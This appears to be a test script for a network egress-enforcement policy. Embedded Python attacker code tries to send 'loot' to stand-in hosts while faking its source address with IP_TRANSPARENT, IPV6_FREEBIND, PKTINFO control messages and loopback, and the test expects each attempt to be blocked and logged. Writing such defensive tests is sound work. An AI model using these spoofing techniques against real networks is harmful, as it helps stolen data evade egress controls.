#!/bin/bash
# SPDX-License-Identifier: BSD-2-Clause
# attack: sends with sources that are not its own: IP_TRANSPARENT, IPV6_FREEBIND, IP_PKTINFO and IPV6_PKTINFO, and loopback's
# stopped-by: connect4, sendmsg4, sendmsg6, egress
# reason: destination
# kernels: all
. "$(dirname "$0")/lib.sh"
arena tcp/443 udp/9000

attack_by <<'PYTHON'
from attacker import *

IP_TRANSPARENT, IP_PKTINFO, IPV6_FREEBIND = 19, 8, 78
OTHER4, OTHER6 = "198.51.100.77", "2001:db8:a00::77" # an address that the policy names

def source4(address):
    return [(socket.SOL_IP, IP_PKTINFO, struct.pack("=I", 0) + socket.inet_aton(address) + bytes(4))]

def source6(address):
    return [(socket.IPPROTO_IPV6, socket.IPV6_PKTINFO, socket.inet_pton(socket.AF_INET6, address) + bytes(4))]

def transparent(sock):
    sock.setsockopt(socket.SOL_IP, IP_TRANSPARENT, 1)
    return sock

def freebind(sock):
    sock.setsockopt(socket.IPPROTO_IPV6, IPV6_FREEBIND, 1)
    return sock

with attempt("transparent, bound"):
    sock = transparent(udp(EVIL4))
    sock.bind((OTHER4, 0))
    sock.sendto(loot("bound4"), (EVIL4, 9000))
with attempt("freebind, bound"):
    sock = freebind(udp(EVIL6))
    sock.bind((OTHER6, 0))
    sock.sendto(loot("bound6"), (EVIL6, 9000))
with attempt("the destination itself"):
    sock = transparent(udp(EVIL4))
    sock.bind((EVIL4, 0))
    sock.sendto(loot("itself4"), (EVIL4, 9000))
with attempt("the destination itself, IPv6"):
    sock = freebind(udp(EVIL6))
    sock.bind((EVIL6, 0))
    sock.sendto(loot("itself6"), (EVIL6, 9000))
with attempt("by control message"):
    transparent(udp(EVIL4)).sendmsg([loot("control4")], source4(OTHER4), 0, (EVIL4, 9000))
with attempt("by control message, IPv6"):
    freebind(udp(EVIL6)).sendmsg([loot("control6")], source6(OTHER6), 0, (EVIL6, 9000))
with attempt("by control message, own"):
    udp(EVIL4).sendmsg([loot("own4")], source4(OWN4), 0, (EVIL4, 9000))
with attempt("by control message, own, IPv6"):
    udp(EVIL6).sendmsg([loot("own6")], source6(OWN6), 0, (EVIL6, 9000))
with attempt("loopback's, IPv6"):
    udp(EVIL6).sendmsg([loot("loopback6")], source6("::1"), 0, (EVIL6, 9000))
with attempt("connected, by control message"):
    sock = freebind(udp(EVIL6))
    sock.connect((EVIL6, 9000))
    sock.sendmsg([loot("connected6")], source6(EVIL6))
with attempt("tcp"):
    sock = transparent(tcp(EVIL4, 0.2))
    sock.bind((OTHER4, 0))
    sock.connect((EVIL4, 443))
with attempt("tcp, the destination itself"):
    sock = transparent(tcp(EVIL4, 0.2))
    sock.bind((EVIL4, 0))
    sock.connect((EVIL4, 443))
udp(GOOD4).sendmsg([honest("own4")], source4(OWN4), 0, (GOOD4, 9000))
sock = udp(GOOD4)
sock.connect((GOOD4, 9000))
sock.sendmsg([honest("connected4")], source4(OWN4))
sock = udp(GOOD6)
sock.connect((GOOD6, 9000))
sock.sendmsg([honest("connected6")], source6(OWN6))
PYTHON
works stolen:{bound,itself,control,own}{4,6} stolen:loopback6 stolen:connected6 'ip4 6 198.51.100.77 EVIL4 443' \
	'ip4 6 EVIL4 EVIL4 443'
gate
stopped
passes honest:own4 honest:connected4 honest:connected6
recorded connect4 destination
recorded sendmsg4 destination
recorded sendmsg6 destination
recorded egress destination
